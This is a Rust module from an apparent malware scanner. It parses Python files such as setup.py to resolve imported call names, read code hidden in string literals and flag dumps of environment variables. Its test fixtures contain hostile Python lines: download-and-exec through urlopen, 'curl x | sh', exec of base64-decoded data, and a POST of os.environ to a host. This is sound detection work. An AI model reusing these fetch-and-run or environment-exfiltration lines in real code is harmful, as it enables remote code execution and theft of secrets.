//! Python facts, through RustPython's parser (`rustpython-parser`, chosen over tree-sitter for a
//! typed AST without C code to build, and available on crates.io unlike ruff's parser): calls
//! with their callee resolved through `import … as`, `from … import` and `__import__`, string
//! and bytes literals, and whole environment dumps. Python 2 code (common in old `setup.py`
//! files) does not parse; [`super::text`] then reads it.

use super::{Call, Facts, Lines};
use rustpython_ast::{self as ast, Visitor};
use std::collections::HashMap;

/// Longest string literal read as code of its own.
const MAX_EMBEDDED: usize = 64 * 1024;

/// How deep code inside string literals is read (code in a string in a string …).
const MAX_DEPTH: u32 = 2;

/// The facts of one Python file.
pub(crate) fn facts(path: &str, source: &str) -> Facts {
    facts_at(path, source, 0)
}

fn facts_at(path: &str, source: &str, depth: u32) -> Facts {
    let mut walker = Walker { lines: Lines::new(source), aliases: HashMap::new(), facts: Facts::default(), depth };
    match rustpython_parser::parse(source, rustpython_parser::Mode::Module, path) {
        Ok(ast::Mod::Module(m)) => {
            walker.facts.parsed = true;
            for stmt in m.body {
                walker.visit_stmt(stmt);
            }
        }
        Ok(_) => walker.facts.parsed = true,
        Err(e) => walker.facts.parse_error = Some(e.to_string()),
    }
    walker.facts
}

struct Walker {
    lines: Lines,
    /// Local names for modules and their members: `sp` → `subprocess`, `system` → `os.system`.
    aliases: HashMap<String, String>,
    facts: Facts,
    /// How deep inside string literals this code sits.
    depth: u32,
}

impl Walker {
    fn line(&self, range: ast::text_size::TextRange) -> u32 {
        self.lines.of(range.start().to_usize())
    }

    /// The dotted name an expression stands for: `subprocess.Popen`, `os.environ`,
    /// `__import__("os").system`, `getattr(os, "system")`.
    fn path_of(&self, e: &ast::Expr) -> Option<String> {
        match e {
            ast::Expr::Name(n) => {
                let id = n.id.as_str();
                Some(self.aliases.get(id).cloned().unwrap_or_else(|| id.to_owned()))
            }
            ast::Expr::Attribute(a) => Some(format!("{}.{}", self.path_of(&a.value)?, a.attr.as_str())),
            ast::Expr::Call(c) => match (self.path_of(&c.func).as_deref(), c.args.as_slice()) {
                (Some("__import__" | "importlib.import_module"), [first, ..]) => string(first),
                (Some("getattr"), [object, attr, ..]) => Some(format!("{}.{}", self.path_of(object)?, string(attr)?)),
                // A call's result stands for its callee: `Fernet(k).decrypt` is `fernet.Fernet.decrypt`.
                (callee, _) => callee.map(str::to_owned),
            },
            _ => None,
        }
    }
}

impl Walker {
    /// Code carried in a string literal (written to a file and run, passed to `exec` or to
    /// `python -c`): when it parses as Python, its calls, strings and imports are this file's,
    /// at the literal's line, so `"exec(urlopen(u).read())"` in a string is a download and
    /// execute like the same code outside one.
    fn embedded(&mut self, text: &str, line: u32) {
        if self.depth >= MAX_DEPTH || text.len() < 16 || text.len() > MAX_EMBEDDED || !looks_like_code(text) {
            return;
        }
        let inner = facts_at("<string>", text, self.depth + 1);
        if !inner.parsed {
            return;
        }
        let at = |mut c: Call| {
            c.line = line;
            c
        };
        self.facts.calls.extend(inner.calls.into_iter().map(at));
        self.facts.strings.extend(inner.strings.into_iter().map(|(s, _)| (s, line)));
        self.facts.imports.extend(inner.imports.into_iter().map(|(s, _)| (s, line)));
        self.facts.env_dumps.extend(inner.env_dumps.iter().map(|_| line));
    }

    /// The calls inside an argument, through attributes, subscripts and nested calls:
    /// `requests.get(u).text` holds `requests.get`.
    fn inner_calls(&self, e: &ast::Expr, out: &mut Vec<String>, depth: u32) {
        if depth > 6 || out.len() > 16 {
            return;
        }
        match e {
            ast::Expr::Call(c) => {
                out.extend(self.path_of(&c.func));
                self.inner_calls(&c.func, out, depth + 1);
                for a in &c.args {
                    self.inner_calls(a, out, depth + 1);
                }
            }
            ast::Expr::Attribute(a) => self.inner_calls(&a.value, out, depth + 1),
            ast::Expr::Subscript(s) => self.inner_calls(&s.value, out, depth + 1),
            ast::Expr::BinOp(b) => {
                self.inner_calls(&b.left, out, depth + 1);
                self.inner_calls(&b.right, out, depth + 1);
            }
            _ => {}
        }
    }
}

fn string(e: &ast::Expr) -> Option<String> {
    match e {
        ast::Expr::Constant(c) => match &c.value {
            ast::Constant::Str(s) => Some(s.clone()),
            _ => None,
        },
        _ => None,
    }
}

/// Calls that turn a value into something sent or stored whole.
fn dumps_env(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
    ["dumps", "dump", "post", "put", "send", "sendall", "write", "urlencode", "b64encode", "request", "urlopen"]
        .iter()
        .any(|w| last == *w)
}

impl Visitor for Walker {
    fn visit_stmt_import(&mut self, node: ast::StmtImport) {
        let line = self.line(node.range);
        for a in &node.names {
            let module = a.name.as_str();
            self.facts.imports.push((module.to_owned(), line));
            match &a.asname {
                Some(local) => self.aliases.insert(local.as_str().to_owned(), module.to_owned()),
                None => None,
            };
        }
    }

    fn visit_stmt_import_from(&mut self, node: ast::StmtImportFrom) {
        let line = self.line(node.range);
        let module = node.module.as_ref().map(|m| m.as_str().to_owned()).unwrap_or_default();
        self.facts.imports.push((module.clone(), line));
        for a in &node.names {
            let local = a.asname.as_ref().unwrap_or(&a.name).as_str().to_owned();
            self.aliases.insert(local, format!("{module}.{}", a.name.as_str()));
        }
    }

    fn visit_stmt_assign(&mut self, node: ast::StmtAssign) {
        if let [ast::Expr::Name(target)] = node.targets.as_slice()
            && let Some(path) = self.path_of(&node.value)
        {
            self.aliases.insert(target.id.as_str().to_owned(), path);
        }
        self.generic_visit_stmt_assign(node);
    }

    fn visit_expr_call(&mut self, node: ast::ExprCall) {
        if let Some(name) = self.path_of(&node.func) {
            let line = self.line(node.range);
            let first = node.args.first().and_then(string);
            let mut inner = Vec::new();
            for a in node.args.iter().chain(node.keywords.iter().map(|k| &k.value)) {
                self.inner_calls(a, &mut inner, 0);
            }
            let options = node.keywords.iter().filter_map(|k| k.arg.as_ref().map(|a| a.as_str().to_owned())).collect();
            if dumps_env(&name) && node.args.iter().any(|a| self.path_of(a).as_deref() == Some("os.environ")) {
                self.facts.env_dumps.push(line);
            }
            if matches!(name.as_str(), "__import__" | "importlib.import_module")
                && let Some(module) = &first
            {
                self.facts.imports.push((module.clone(), line));
            }
            self.facts.calls.push(Call { name, line, first, inner, options });
        }
        self.generic_visit_expr_call(node);
    }

    // The generated visitor stops at these; their expressions hold calls too.
    fn visit_keyword(&mut self, node: ast::Keyword) {
        self.visit_expr(node.value);
    }

    fn visit_comprehension(&mut self, node: ast::Comprehension) {
        self.visit_expr(node.iter);
        for e in node.ifs {
            self.visit_expr(e);
        }
    }

    fn visit_withitem(&mut self, node: ast::WithItem) {
        self.visit_expr(node.context_expr);
    }

    fn visit_match_case(&mut self, node: ast::MatchCase) {
        for s in node.body {
            self.visit_stmt(s);
        }
    }

    fn visit_arguments(&mut self, node: ast::Arguments) {
        for a in node.posonlyargs.into_iter().chain(node.args).chain(node.kwonlyargs) {
            if let Some(d) = a.default {
                self.visit_expr(*d);
            }
        }
    }

    fn visit_expr_constant(&mut self, node: ast::ExprConstant) {
        let text = match node.value {
            ast::Constant::Str(s) => s,
            ast::Constant::Bytes(b) => String::from_utf8_lossy(&b).into_owned(),
            _ => return,
        };
        let line = self.line(node.range);
        self.embedded(&text, line);
        self.facts.strings.push((text, line));
    }
}

/// Whether a string holds Python statements worth parsing: it begins like a module (`import`,
/// `from … import`) or calls what runs code. Prose and docstrings that merely mention an
/// import are not parsed, which keeps large documented packages fast.
fn looks_like_code(text: &str) -> bool {
    let start = text.trim_start();
    let begins =
        ["import ", "from ", "exec(", "eval(", "__import__(", "os.system("].iter().any(|p| start.starts_with(p));
    (begins && text.contains('(')) || text.contains("exec(") || text.contains("eval(")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_inside_a_string_is_read_at_the_strings_line() {
        let f = facts(
            "setup.py",
            "from tempfile import NamedTemporaryFile\nt = NamedTemporaryFile(delete=False)\nt.write(b\"\"\"from urllib.request import urlopen as u;exec(u('https://paste.example/raw').read())\"\"\")\n",
        );
        let exec = f.calls.iter().find(|c| c.name == "exec").expect("exec inside the bytes literal");
        assert_eq!(exec.line, 3);
        assert!(exec.inner.iter().any(|i| i == "urllib.request.urlopen"), "{:?}", exec.inner);
        // Prose, and code nested deeper than the bound, are not read as code.
        let prose = facts("a.py", "x = 'Please import the module (see docs) before use.'\n");
        assert!(prose.calls.is_empty());
        let deep = facts(
            "a.py",
            &format!("a = {:?}\n", format!("b = {:?}", format!("c = {:?}", "import os; os.system('id')"))),
        );
        assert!(deep.calls.iter().all(|c| c.name != "os.system"), "{:?}", deep.calls);
    }

    #[test]
    fn callees_resolve_through_imports_and_dunder_import() {
        let f = facts(
            "setup.py",
            r#"import subprocess as sp
from os import system
import base64, os
sp.Popen(["sh", "-c", "x"], start_new_session=True)
system("curl x | sh")
exec(base64.b64decode("aGk="))
__import__("os").popen("id")
requests.post("https://h", data=json.dumps(os.environ))
"#,
        );
        let names: Vec<&str> = f.calls.iter().map(|c| c.name.as_str()).collect();
        for want in ["subprocess.Popen", "os.system", "exec", "os.popen", "requests.post"] {
            assert!(names.contains(&want), "{want} in {names:?}");
        }
        let popen = f.calls.iter().find(|c| c.name == "subprocess.Popen").unwrap();
        assert_eq!((popen.line, popen.options.as_slice()), (4, ["start_new_session".to_owned()].as_slice()));
        let exec = f.calls.iter().find(|c| c.name == "exec").unwrap();
        assert_eq!(exec.inner, ["base64.b64decode"]);
        assert_eq!(f.env_dumps, [8]);
        assert!(f.strings.iter().any(|(s, l)| s == "curl x | sh" && *l == 5));
        assert!(f.parsed);
    }

    #[test]
    fn python_2_is_reported_not_fatal() {
        let f = facts("setup.py", "print 'hello'\nexec 'x'\n");
        assert!(!f.parsed);
        assert!(f.parse_error.is_some());
    }
}
